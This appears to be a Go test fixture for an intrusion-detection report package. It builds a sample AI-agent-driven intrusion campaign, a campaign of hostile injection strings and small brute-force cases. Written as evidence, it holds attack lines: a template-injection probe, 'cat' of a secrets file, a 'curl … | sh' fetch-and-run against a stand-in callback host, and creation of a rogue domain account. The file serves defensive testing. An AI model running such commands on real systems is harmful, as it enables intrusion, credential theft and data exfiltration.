package report

import (
	"fmt"
	"math"
	"time"

	"github.com/tocsin-ids/tocsin"
)

// sampleCampaign is an intrusion that an agent drove through three organisations within a day.
func sampleCampaign() *tocsin.Campaign {
	at := func(min int) time.Time { return sampleStart.Add(time.Duration(min) * time.Minute) }
	place := func(min int, source string, record uint64) tocsin.Place {
		return tocsin.Place{Time: at(min), Source: source, Record: record}
	}
	agent := &tocsin.Actor{
		ID: "address:203.0.113.7", First: at(0), Last: at(1765), Driver: tocsin.Agent, Tie: tocsin.Core,
		Handles: []tocsin.Entity{{Kind: "address", Value: "203.0.113.7"}, {Kind: "address", Value: "198.51.100.24"}, {Kind: "principal", Value: "arn:aws:iam::111122223333:user/deploy-bot"},
			{Kind: "user", Value: `SHOP\svc-backup`}, {Kind: "session", Value: "s-7781"}},
		Links: []tocsin.Link{
			{From: "address:203.0.113.7", To: "address:198.51.100.24", Kind: "mark", Weight: 5.2, Evidence: "the same rare user agent (fieldmouse/0.4) from both within 41 s of a block", Time: at(95), Places: []tocsin.Place{place(95, "logs/access.log.gz", 40211), place(96, "logs/access.log.gz", 40260)}},
			{From: "address:198.51.100.24", To: `user:SHOP\svc-backup`, Kind: "credential", Weight: 4.1, Evidence: "password that was read on web1.shop.example at 09:20 was first used from here 3 s later", Time: at(81), Places: []tocsin.Place{place(81, "logs/auth.log", 120)}},
			{From: `user:SHOP\svc-backup`, To: "principal:arn:aws:iam::111122223333:user/deploy-bot", Kind: "sequence", Weight: 3.4, Evidence: "key read by the one was used by the other 6 s later", Time: at(410)},
		},
		Tempo: tocsin.Tempo{Actions: 4120, Busy: 7*time.Hour + 12*time.Minute, Peak1s: 9, Peak10s: 61, Peak60s: 244, Gaps: []time.Duration{700 * time.Millisecond, 3900 * time.Millisecond, 21 * time.Second, 140 * time.Second},
			Occupancy: 0.41, Overlap: 0.18, Unique: 0.83, Tools: 14, Targets: 11, Failed: 0.37, Changed: 0.91},
		Evidence: []tocsin.Evidence{
			{Feature: "prior", Seen: "before any evidence", Human: -1.1, Script: -1.1, Agent: -1.1},
			{Feature: "gap shape", Seen: "median 3.9 s, 9 in 10 below 21 s", Human: -0.9, Script: -0.4, Agent: 0.4},
			{Feature: "change after failure", Seen: "91 % of what followed a failure was different", Human: -0.2, Script: -1.8, Agent: 0.3},
			{Feature: "unique commands", Seen: "83 % of 4,120 texts occur once", Human: -0.3, Script: -1.4, Agent: 0.1},
			{Feature: "hours", Seen: "active in 21 of 24 hours of the day", Human: -1.9, Script: 0.2, Agent: 0.2},
		},
		Adaptations: []tocsin.Adaptation{{Blocked: at(94), Resumed: at(95), After: 41 * time.Second, From: "address:203.0.113.7", To: "address:198.51.100.24", Changed: []string{"address", "pace"}, Evidence: "the same wordlist went on at the next word"}},
	}
	for i := range 120 {
		n := 0
		if i%23 < 15 && i != 40 && i != 41 {
			n = 12 + int(40*math.Abs(math.Sin(float64(i)/3)))
		}
		agent.Tempo.PerMinute = append(agent.Tempo.PerMinute, n)
	}
	person := &tocsin.Actor{
		ID: "address:192.0.2.90", First: at(700), Last: at(1720), Driver: tocsin.Undecided, Tie: tocsin.Weak,
		Handles: []tocsin.Entity{{Kind: "address", Value: "192.0.2.90"}, {Kind: "session", Value: "s-9120"}},
		Tempo:   tocsin.Tempo{Actions: 38, Busy: 50 * time.Minute, Peak1s: 1, Peak10s: 2, Peak60s: 5, Gaps: []time.Duration{4 * time.Second, 31 * time.Second, 220 * time.Second, 600 * time.Second}, Occupancy: 0.08, Unique: 0.7, Tools: 4, Targets: 3, PerMinute: []int{3, 5, 0, 0, 1, 8, 2, 0, 0, 0, 6, 3, 4, 0, 0, 0, 6}},
		Evidence: []tocsin.Evidence{{Feature: "prior", Seen: "before any evidence", Human: -1.1, Script: -1.1, Agent: -1.1},
			{Feature: "gap shape", Seen: "median 31 s", Human: -0.3, Script: -1.8, Agent: -1.0}},
	}
	agent.Reasons = []tocsin.Reason{
		{For: tocsin.Agent, Against: tocsin.Human, Feature: "gap", Symbol: "2–4 s", Share: 0.61, N: 1900, Never: true, Weight: 3.1},
		{For: tocsin.Agent, Against: tocsin.Script, Feature: "text", Symbol: "the one before changed a little", Share: 0.34, N: 2100, Weight: 1.4},
		{For: tocsin.Human, Against: tocsin.Agent, Feature: "rhythm", Symbol: "unlike it", Share: 0.55, N: 1700, Weight: 0.6},
	}
	agent.Share, person.Share = softmax(agent.Evidence), softmax(person.Evidence)
	c := &tocsin.Campaign{
		ID: "c-3f9a1c2b7d04", Was: []string{"c-77e01b2c3d4e", "c-90aa1b2c3d4f"}, Title: "Web applications of 3 organisations broken into, credentials read, customer records sent out", Level: tocsin.Critical,
		Why: "data left the network after credentials of a domain account were used on 4 hosts", First: at(0), Last: at(1765), Actions: 4158, Alerts: 212,
		Lost:    "Between 2026-03-01 11:00 and 13:00, 61,204 quiet actions were let go; some may have been its own.",
		Omitted: map[string]int{"steps": 12, "victims": 45, "links": 1, "indicators": 3, "used": 3, "actors": 2},
		Orgs:    []string{"shop.example", "clinic.example", "town.example"}, Actors: []*tocsin.Actor{agent, person}, Driver: tocsin.Agent,
		Judged: 4002, Share: map[string]float64{"human": 0.03, "script": 0.02, "agent": 0.95},
		Autonomy: &tocsin.Share{Value: 0.93, Low: 0.86, High: 0.97},
		Joins:    []tocsin.Join{{From: agent.ID, To: person.ID, Weight: 3.6, Rests: []string{"time"}, Lacks: []string{"address", "tool"}, Shared: []string{"account:SHOP\\svc-backup", "host:dc1.shop.example"}, Common: map[string]int{"account": 1, "host": 1}, Apart: 4 * time.Minute, Tie: tocsin.Weak}},
		Links:    []tocsin.Link{{From: agent.ID, To: person.ID, Kind: "takeover", Weight: 3.6, Evidence: "session s-9120 was opened with the account that the first had made 4 min before", Time: at(700), Places: []tocsin.Place{place(700, "logs/dc.zip!/Sysmon.evtx", 99120)}, Tie: tocsin.Weak}},
		Steps: []tocsin.Step{
			{Tactic: "reconnaissance", Techniques: []string{"T1595.003"}, First: at(0), Last: at(92), Actions: 2210, Worked: 160, Failed: 1990, Actors: []string{agent.ID}, Hosts: []string{"web1.shop.example", "www.clinic.example", "portal.town.example"}, Summary: "searched for 1,870 paths on three web servers at once", Places: []tocsin.Place{place(1, "logs/access.log.gz", 210)}},
			{Tactic: "initial-access", Techniques: []string{"T1190"}, First: at(76), Last: at(101), Actions: 64, Worked: 9, Failed: 41, Actors: []string{agent.ID}, Hosts: []string{"web1.shop.example", "portal.town.example"}, Summary: "template injection in /render answered with the result of 7*7", Places: []tocsin.Place{place(76, "logs/access.log.gz", 38110)}, Commands: []string{"POST /render?tpl={{7*7}}"}},
			{Tactic: "execution", Techniques: []string{"T1059.004"}, First: at(78), Last: at(130), Actions: 170, Worked: 121, Failed: 30, Actors: []string{agent.ID}, Hosts: []string{"web1.shop.example"}, Summary: "commands run as www-data through the web application", Commands: []string{"id; uname -a", "cat /srv/app/.env | head -40"},
				Acts: []tocsin.Act{{Text: "id; uname -a", Row: "run-by-server", Actions: 2, Seen: []tocsin.Sight{{Sensor: "linux/process_creation/auditd, auditd", Place: place(78, "logs/audit.log", 4100)}}},
					{Text: "cat /srv/app/.env | head -40", Actions: 1, Seen: []tocsin.Sight{{Sensor: "ai_agent/tool_call/claude-code, claude-code", Place: place(79, "logs/agent.jsonl", 31)}, {Sensor: "linux/process_creation/auditd, auditd", Place: place(80, "logs/audit.log", 4121), Off: time.Minute}, {Sensor: "linux/process_creation/history, shell-history", Place: place(80, "logs/.bash_history", 12), Off: time.Minute}}}}},
			{Tactic: "credential-access", Techniques: []string{"T1552.001", "T1003.008"}, First: at(80), Last: at(430), Actions: 210, Worked: 38, Failed: 160, Actors: []string{agent.ID}, Hosts: []string{"web1.shop.example", "db1.shop.example"}, Summary: "read database and backup passwords from configuration files"},
			{Tactic: "discovery", Techniques: []string{"T1087.002", "T1018"}, First: at(380), Last: at(520), Actions: 890, Worked: 700, Failed: 120, Actors: []string{agent.ID}, Hosts: []string{"web1.shop.example", "db1.shop.example", "files1.shop.example"}, Summary: "listed accounts, shares and 214 hosts of the inner network"},
			{Tactic: "lateral-movement", Techniques: []string{"T1021.004"}, First: at(405), Last: at(760), Actions: 71, Worked: 22, Failed: 40, Actors: []string{agent.ID, person.ID}, Hosts: []string{"db1.shop.example", "files1.shop.example", "dc1.shop.example"}, Summary: "logged in to 4 hosts with the account of the backup"},
			{Tactic: "persistence", Techniques: []string{"T1136.002"}, First: at(696), Last: at(698), Actions: 3, Worked: 3, Actors: []string{agent.ID}, Hosts: []string{"dc1.shop.example"}, Summary: "made the domain account helpdesk2"},
			{Tactic: "collection", Techniques: []string{"T1213"}, First: at(1500), Last: at(1700), Actions: 480, Worked: 455, Failed: 3, Actors: []string{agent.ID}, Hosts: []string{"db1.shop.example"}, Summary: "read the tables customers and orders in 455 requests"},
			{Tactic: "exfiltration", Techniques: []string{"T1567.002"}, First: at(1725), Last: at(1765), Actions: 60, Worked: 58, Actors: []string{agent.ID}, Hosts: []string{"db1.shop.example"}, Summary: "sent 1.8 GB to a storage service on the internet", Places: []tocsin.Place{place(1765, "logs/access.log.gz", 401000)}},
		},
		Gates: []tocsin.Gate{{Quiet: at(105), Time: at(380), Change: "credentials are used for the first time", Weight: 2.2}, {Quiet: at(530), Time: at(690), Change: "the domain controller becomes the target", Weight: 1.4},
			{Quiet: at(765), Time: at(1500), Change: "from moving about to reading tables", Weight: 2.9}, {Quiet: at(1702), Time: at(1725), Change: "what was read is sent out", Weight: 1.9}},
		Marks: []string{"agent:fieldmouse/0.4", "callback:x7f3.callback.example", "hash:" + "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "address:203.0.113.7", "address:198.51.100.24", "list:wordlist of 1,870 paths"},
		Key: []tocsin.KeyEvent{
			{Kind: "contact", Time: at(0), Host: "web1.shop.example", From: "203.0.113.7", What: "GET /.git/config", Technique: "T1595.003", Outcome: tocsin.Failed, Tie: tocsin.Core, Places: []tocsin.Place{place(0, "logs/access.log.gz", 201)}},
			{Kind: "entry", Time: at(76), Host: "web1.shop.example", From: "203.0.113.7", What: "POST /render?tpl=7*7", On: []string{"host:web1.shop.example"}, Technique: "T1190", Outcome: tocsin.Worked, Shown: "a program then ran below the server (run id)", Tie: tocsin.Core, Places: []tocsin.Place{place(76, "logs/access.log.gz", 38110)}},
			{Kind: "account", Time: at(696), Host: "dc1.shop.example", Account: `SHOP\svc-backup`, What: "net user helpdesk2 *** /add /domain", On: []string{`user:SHOP\helpdesk2`}, Technique: "T1136.002", Tie: tocsin.Core, Places: []tocsin.Place{place(696, "logs/dc.zip!/Sysmon.evtx", 99118), place(696, "logs/dc.zip!/Security.evtx", 7755)}},
			{Kind: "sent", Time: at(1725), Host: "db1.shop.example", What: "send to x7f3.callback.example", On: []string{"domain:x7f3.callback.example"}, Technique: "T1567.002", Outcome: tocsin.Worked, Tie: tocsin.Core, Places: []tocsin.Place{place(1725, "logs/flow.csv", 88)}},
			{Kind: "last", Time: at(1765), Account: `SHOP\helpdesk2`, What: "logout", Tie: tocsin.Weak, Places: []tocsin.Place{place(1765, "logs/access.log.gz", 401000)}},
		},
		Laid: []tocsin.Foothold{
			{KeyEvent: tocsin.KeyEvent{Kind: "account", Time: at(696), Host: "dc1.shop.example", Account: `SHOP\svc-backup`, What: "net user helpdesk2 *** /add /domain", On: []string{`user:SHOP\helpdesk2`}, Technique: "T1136.002", Tie: tocsin.Core, Places: []tocsin.Place{place(696, "logs/dc.zip!/Sysmon.evtx", 99118)}}, Name: `SHOP\helpdesk2`, Used: at(1765)},
			{KeyEvent: tocsin.KeyEvent{Kind: "cron", Time: at(700), Host: "web1.shop.example", What: "tee /etc/cron.d/refresh", Technique: "T1053.003", Outcome: tocsin.Worked, Tie: tocsin.Core, Places: []tocsin.Place{place(700, "logs/audit.log", 4302)}}, Name: "/etc/cron.d/refresh"},
			{KeyEvent: tocsin.KeyEvent{Kind: "task", Time: at(710), Host: "files1.shop.example", What: "schtasks /create /tn Refresh", Technique: "T1053.005", Tie: tocsin.Core, Places: []tocsin.Place{place(710, "logs/dc.zip!/Sysmon.evtx", 99300)}}, Name: "Refresh", Removed: at(760), RemovedAt: place(760, "logs/dc.zip!/Sysmon.evtx", 99400)},
		},
		Used: []tocsin.Indicator{
			{Entity: tocsin.Entity{Kind: "address", Role: "source", Value: "203.0.113.7"}, Why: "2,210 acts came from there, 190 of them with an alert.", First: at(0), Last: at(94), Place: place(0, "logs/access.log.gz", 201)},
			{Entity: tocsin.Entity{Kind: "address", Role: "source", Value: "198.51.100.24"}, Why: "1,900 acts came from there.", First: at(95), Last: at(1765), Place: place(95, "logs/access.log.gz", 40211)},
			{Entity: tocsin.Entity{Kind: "domain", Role: "callback", Value: "x7f3.callback.example"}, Why: "A command on web1.shop.example names it: curl x7f3.callback.example | sh.", First: at(79), Last: at(1725), Place: place(79, "logs/audit.log", 4121)},
			{Entity: tocsin.Entity{Kind: "user", Role: "account", Value: `SHOP\helpdesk2`}, Why: "It was made: net user helpdesk2 *** /add /domain.", First: at(696), Last: at(696), Place: place(696, "logs/dc.zip!/Sysmon.evtx", 99118)},
			{Entity: tocsin.Entity{Kind: "key", Role: "key", Value: "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExample lab@intruder.example"}, Why: "It was added to the keys with which one may log in.", First: at(700), Last: at(700), Place: place(700, "logs/audit.log", 4300)},
			{Entity: tocsin.Entity{Kind: "hash", Role: "tool", Value: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}, Why: "A file with this digest was used: run fieldmouse.", First: at(80), Last: at(81), Place: place(80, "logs/dc.zip!/Sysmon.evtx", 88000)},
			{Entity: tocsin.Entity{Kind: "agent", Role: "client", Value: "fieldmouse/0.4"}, Why: "What asked called itself so, as few others would: GET /.git/config.", First: at(0), Last: at(101), Place: place(0, "logs/access.log.gz", 201)},
		},
		Touched: []tocsin.Indicator{
			{Entity: tocsin.Entity{Kind: "address", Role: "contacted", Value: "192.0.2.61"}, Why: "What is known does not show that it is hostile. It was spoken to: connect 192.0.2.61:443.", First: at(400), Last: at(410), Place: place(400, "logs/flow.csv", 12)},
			{Entity: tocsin.Entity{Kind: "address", Role: "mail", Value: "192.0.2.25"}, Why: "Mail was written straight to it, past the organisation's own server: it is where the mail was for.", First: at(500), Last: at(520), Place: place(500, "logs/flow.csv", 40)},
			{Entity: tocsin.Entity{Kind: "domain", Role: "provider", Value: "storage.example"}, Why: "Data was being sent to a service of everybody's (files or texts of anybody): ask it to preserve and then delete it.", First: at(1725), Last: at(1765), Place: place(1725, "logs/flow.csv", 88)},
		},
		Data:    []string{"tables customers and orders of db1.shop.example, read in 455 requests", "1.8 GB sent to storage.example"},
		Open:    []string{"what helpdesk2 did after 2026-03-02 12:40 on hosts that sent no logs", "whether www.clinic.example was entered: its answers were not logged"},
		Leads:   []tocsin.Aside{{Title: "Scheduled Task Made By Service Account", Host: "files1.shop.example", Level: tocsin.Medium, N: 1, First: at(640), Last: at(640), Place: place(640, "logs/dc.zip!/Sysmon.evtx", 88002)}},
		Missing: []string{"process starts of files1.shop.example", "DNS queries of town.example"},
		Rules:   []string{"Path Traversal", "Many Failed Logons Then Success", "Credential Memory Read By Unsigned Tool"},
		Records: []tocsin.Span{{Source: "logs/access.log.gz", From: 1, To: 9}, {Source: "logs/auth.log", From: 2, To: 20}, {Source: "logs/dc.zip!/Sysmon.evtx", From: 1, To: 1}},
	}
	reached := map[string][]string{
		"web1.shop.example": {"reconnaissance", "initial-access", "execution", "credential-access", "discovery"}, "db1.shop.example": {"credential-access", "lateral-movement", "collection", "exfiltration"},
		"files1.shop.example": {"discovery", "lateral-movement"}, "dc1.shop.example": {"lateral-movement", "persistence"}, "portal.town.example": {"reconnaissance", "initial-access"},
	}
	for i, name := range []string{"web1.shop.example", "db1.shop.example", "files1.shop.example", "dc1.shop.example", "portal.town.example", "www.clinic.example", "mail.clinic.example", "vpn.town.example"} {
		org := c.Orgs[0]
		if i > 3 {
			org = name[len(name)-len("town.example"):]
			if org != "town.example" {
				org = "clinic.example"
			}
		}
		t := reached[name]
		v := tocsin.Victim{Entity: tocsin.Entity{Kind: "host", Value: name}, Org: org, Reached: t != nil, First: at(i * 20), Last: at(700 + i*100), Tactics: t, Actions: 900 - i*100, Tie: tocsin.Core}
		if i == 2 || i == 7 {
			v.Tie = tocsin.Weak
		}
		if t == nil {
			v.Tactics = []string{"reconnaissance"}
		}
		c.Victims = append(c.Victims, v)
	}
	c.Victims = append(c.Victims, tocsin.Victim{Entity: tocsin.Entity{Kind: "user", Value: `SHOP\svc-backup`}, Org: "shop.example", Reached: true, First: at(81), Last: at(760), Tactics: []string{"credential-access", "lateral-movement"}, Actions: 71},
		tocsin.Victim{Entity: tocsin.Entity{Kind: "user", Value: `SHOP\alice`}, Org: "shop.example", First: at(408), Last: at(409), Tactics: []string{"credential-access"}, Actions: 9})
	return c
}

// softmax makes shares of weights.
func softmax(all []tocsin.Evidence) map[string]float64 {
	var h, s, a float64
	for _, e := range all {
		h, s, a = h+e.Human, s+e.Script, a+e.Agent
	}
	sum := math.Exp(h) + math.Exp(s) + math.Exp(a)
	return map[string]float64{"human": math.Exp(h) / sum, "script": math.Exp(s) / sum, "agent": math.Exp(a) / sum}
}

// hostileCampaign is one whose every text and number tries to break out.
func hostileCampaign() *tocsin.Campaign {
	evil := []string{evilTerminal, evilHTML, evilCell, evilJSON, "a|b\\|c`d``e [x](javascript:alert(1)) ![i](http://bad.example/p.png) <b>www.bad.example</b>\n# head\n- item"}
	e := func(i int) string { return evil[i%len(evil)] }
	odd := time.Date(20000, 1, 1, 0, 0, 0, 0, time.UTC)
	c := &tocsin.Campaign{ID: "c-" + e(0), Title: e(1), Level: tocsin.Level(200), Why: e(2), First: odd, Last: time.Date(1, 1, 1, 0, 0, 1, 0, time.UTC), Actions: math.MaxInt, Alerts: -1,
		Orgs: []string{e(0), e(1), e(4)}, Driver: tocsin.Driver(99), Autonomy: &tocsin.Share{Value: math.NaN(), Low: math.Inf(-1), High: math.Inf(1)},
		Marks: evil, Data: evil, Open: evil, Missing: evil, Rules: evil, Sparse: true, Records: []tocsin.Span{{Source: e(1), From: math.MaxUint64, To: 0}},
		Was: evil, Lost: e(4), Omitted: map[string]int{"steps": -3, "victims": math.MaxInt, e(1): 5}}
	a := &tocsin.Actor{ID: e(4), Handles: []tocsin.Entity{{Kind: e(0), Value: e(1)}, {Kind: "address", Value: e(4)}}, First: odd, Tempo: tocsin.Tempo{Actions: -5, Busy: math.MinInt64, Gaps: []time.Duration{math.MinInt64, math.MaxInt64}, Occupancy: math.NaN(), PerMinute: []int{-1, math.MaxInt, 3}},
		Share: map[string]float64{e(1): math.Inf(1), "agent": 7}, Evidence: []tocsin.Evidence{{Feature: e(0), Seen: e(1), Human: math.Inf(1), Script: math.NaN(), Agent: 1e300}},
		Adaptations: []tocsin.Adaptation{{From: e(1), To: e(2), Changed: evil, Evidence: e(3), After: -1}}}
	for i := range 9 {
		c.Steps = append(c.Steps, tocsin.Step{Tactic: e(i), Techniques: evil, Actors: []string{a.ID, e(i)}, Hosts: evil, Summary: e(i), Commands: evil, Places: []tocsin.Place{{Source: e(i), Record: math.MaxUint64}},
			Acts: []tocsin.Act{{Text: e(i), Actions: -1, Seen: []tocsin.Sight{{Sensor: e(i), Place: tocsin.Place{Source: e(i + 1), Time: odd}, Off: math.MaxInt64}, {Sensor: e(i + 2), Off: math.MinInt64}}}, {}}})
		l := tocsin.Link{From: e(i), To: e(i + 1), Kind: e(i), Weight: math.Inf(1), Evidence: e(i), Places: []tocsin.Place{{Source: e(i)}}}
		c.Links, a.Links = append(c.Links, l), append(a.Links, l)
		c.Victims = append(c.Victims, tocsin.Victim{Entity: tocsin.Entity{Kind: e(i), Value: fmt.Sprint(e(i), i)}, Org: e(i + 1), Reached: i%2 == 0, Tactics: evil})
		c.Joins = append(c.Joins, tocsin.Join{From: e(i), To: e(i + 1), Weight: math.NaN(), Rests: evil, Shared: evil, Common: map[string]int{e(i): -1, "host": 9}, Lacks: evil, Apart: math.MinInt64, Between: -i})
		a.Reasons = append(a.Reasons, tocsin.Reason{For: tocsin.Driver(i), Against: tocsin.Driver(i + 1), Feature: e(i), Symbol: e(i + 1), Share: math.NaN(), N: -1}, tocsin.Reason{For: tocsin.Driver(90), Feature: "log", Weight: math.Inf(-1)})
		c.Gates = append(c.Gates, tocsin.Gate{Change: e(i), Weight: math.NaN()})
		c.Laid = append(c.Laid, tocsin.Foothold{KeyEvent: tocsin.KeyEvent{Kind: e(i), Time: odd, Host: e(i + 1), Account: e(i + 2), From: e(i + 3), What: e(i + 4), On: evil, Places: []tocsin.Place{{Source: e(i)}}}, Name: e(i), Removed: odd, RemovedAt: tocsin.Place{Source: e(i + 1)}})
		c.Leads = append(c.Leads, tocsin.Aside{Title: e(i), Host: e(i + 2), Level: tocsin.Level(i * 40), N: -i, First: odd, Place: tocsin.Place{Source: e(i)}})
	}
	c.Actors = []*tocsin.Actor{a, nil}
	return c
}

// smallCampaign is one of which little is known.
func smallCampaign(i int) *tocsin.Campaign {
	at := sampleStart.Add(time.Duration(i) * time.Hour)
	a := &tocsin.Actor{ID: fmt.Sprintf("address:198.51.100.%d", i), Handles: []tocsin.Entity{{Kind: "address", Value: fmt.Sprintf("198.51.100.%d", i)}}, First: at, Last: at.Add(9 * time.Minute), Driver: tocsin.Script, Share: map[string]float64{"human": 0.02, "script": 0.9, "agent": 0.08},
		Tempo: tocsin.Tempo{Actions: 40, PerMinute: []int{5, 4, 4, 5, 5, 4, 4, 5, 4}}}
	return &tocsin.Campaign{ID: fmt.Sprintf("c-00000000%04d", i), Title: "Passwords tried against one host", Level: tocsin.Low, Why: "nothing worked", First: at, Last: a.Last, Actions: 40, Alerts: 40, Orgs: []string{"shop.example"}, Actors: []*tocsin.Actor{a}, Driver: tocsin.Script, Judged: 40, Share: map[string]float64{"human": 0.02, "script": 0.9, "agent": 0.08},
		Steps:   []tocsin.Step{{Tactic: "credential-access", Techniques: []string{"T1110.001"}, First: at, Last: a.Last, Actions: 40, Failed: 40, Actors: []string{a.ID}, Hosts: []string{"host1.corp.example"}, Summary: "40 passwords for root"}},
		Victims: []tocsin.Victim{{Entity: tocsin.Entity{Kind: "host", Value: "host1.corp.example"}, First: at, Last: a.Last, Tactics: []string{"credential-access"}, Actions: 40}}}
}

// campaignHunt is sampleHunt with campaigns, n of them small.
func campaignHunt(matches, n int) *Hunt {
	h := sampleHunt(matches)
	h.Campaigns = []*tocsin.Campaign{sampleCampaign(), hostileCampaign()}
	h.Attempts, h.Tried = 214, []tocsin.Entity{{Kind: "address", Value: "198.51.100.200"}, {Kind: "user", Value: evilHTML}}
	h.Aside = []tocsin.Aside{{Title: "Web Shell Asked For", Host: "web9.town.example", Level: tocsin.Medium, N: 3, First: sampleStart, Last: sampleStart, Place: tocsin.Place{Time: sampleStart, Source: "logs/access.log.gz", Record: 77}}, {Title: evilHTML, Host: evilTerminal, Level: tocsin.Level(9), Place: tocsin.Place{Source: evilJSON}}}
	for i := range n {
		h.Campaigns = append(h.Campaigns, smallCampaign(i+1))
	}
	return h
}
